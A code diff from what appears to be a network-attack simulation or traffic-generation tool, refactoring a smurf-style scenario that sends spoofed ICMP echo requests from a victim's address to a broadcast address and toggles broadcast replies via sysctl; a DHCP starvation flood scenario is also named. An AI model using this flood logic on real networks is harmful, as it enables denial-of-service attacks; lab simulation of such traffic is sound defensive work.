@@ -101,14 +101,14 @@ def icmp_broadcast(scene):
     broadcast, rate = str(scene.plan.inner.broadcast_address), between(scene, 30, 2000 // (len(echoing) + 1))
     packets = (style.ip(index, dice, victim.address, broadcast, 1, raw.icmp(8, struct.pack(
         ">HH", style.port, index & 0xFFFF) + payload)) for index in itertools.count())
-    for host in echoing:
-        echo_broadcasts(scene, host, True)
     try:
+        for host in echoing:
+            echo_broadcasts(scene.run, host, True)
         with scene.attack(victim.address, broadcast, 1), _from_all(scene, echoing, victim):
             senders.pour(scene, attacker, packets, rate)
     finally:
         for host in echoing:
-            echo_broadcasts(scene, host, False)
+            echo_broadcasts(scene.undo, host, False)
 
 
 def _from_all(scene, hosts, victim):
@@ -119,9 +119,9 @@ def _from_all(scene, hosts, victim):
     return stack
 
 
-def echo_broadcasts(scene, host, answers):
+def echo_broadcasts(run, host, answers):
     """Whether a host answers to echo requests to all, as old devices do."""
-    scene.run(host, "sysctl", "-q", "-w", f"net.ipv4.icmp_echo_ignore_broadcasts={int(not answers)}")
+    run(host, "sysctl", "-q", "-w", f"net.ipv4.icmp_echo_ignore_broadcasts={int(not answers)}")
 
 
 @scenario("dhcp-flood", "UDP_FLOOD", "every lease asked for, each by a machine that is made up")
